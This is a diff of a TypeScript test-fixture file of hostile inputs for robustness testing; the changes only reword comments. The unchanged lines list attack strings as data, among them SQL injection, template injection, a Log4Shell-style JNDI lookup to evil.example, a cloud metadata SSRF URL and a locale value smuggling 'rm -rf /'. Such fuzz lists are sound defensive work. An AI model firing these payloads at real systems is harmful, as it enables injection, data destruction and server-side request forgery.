@@ -1,4 +1,4 @@
-/** Texts that have broken somebody's server before. Short: length is added where it is wanted. */
+/** Texts that have broken servers before. Short: they are repeated where length is wanted. */
 export const hostileTexts: readonly [string, ...string[]] = [
   '',
   ' ',
@@ -16,7 +16,7 @@ export const hostileTexts: readonly [string, ...string[]] = [
   'İıſK',
   "' OR 1=1 --",
   "'; DROP TABLE users; --",
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would fill in
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template engine would replace it
   '$1 $2 %s %n {0} ${7*7} {{7*7}}',
   '\\',
   '%',
@@ -55,14 +55,14 @@ export const hostileTexts: readonly [string, ...string[]] = [
   'data:text/html,x',
   'javascript:alert(1)',
   'http://169.254.169.254/latest/meta-data',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a logger would look up
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a logger would look it up
   '${jndi:ldap://evil.example/a}',
   'en_US.UTF-8; rm -rf /',
   '٣٤٥٦',
   '１２３４５６',
 ];
 
-/** What stands in the place of a value that should be something else. */
+/** Put in place of a value that should be something else. */
 export const hostileValues: readonly [unknown, ...unknown[]] = [
   null,
   true,
@@ -86,7 +86,7 @@ export const hostileValues: readonly [unknown, ...unknown[]] = [
   { toJSON: 'x' },
 ];
 
-/** What a text is filled with when it is to be long: each is slow for some way of reading it. */
+/** Repeated to make a text long: each is slow for some kind of parser. */
 export const fillers: readonly [string, ...string[]] = [
   'x',
   ' ',
@@ -112,7 +112,7 @@ export const fillers: readonly [string, ...string[]] = [
   '\\u0041',
 ];
 
-/** Whole bodies that are no object of a form. */
+/** Whole bodies that are not an object. */
 export const hostileBodies: readonly [string, ...string[]] = [
   '',
   ' ',
@@ -145,7 +145,9 @@ export const hostileBodies: readonly [string, ...string[]] = [
   '\u0000\u0001\u0002',
 ];
 
-/** Headers that mean something to us, a proxy or a library, with what nobody sends in earnest. */
+/**
+ * Headers with a meaning for us, a proxy or a library, with values that nobody sends in normal use.
+ */
 export const hostileHeaders: readonly [Record<string, string>, ...Record<string, string>[]] = [
   { 'content-type': 'text/plain' },
   { 'content-type': 'application/json; charset=utf-7' },
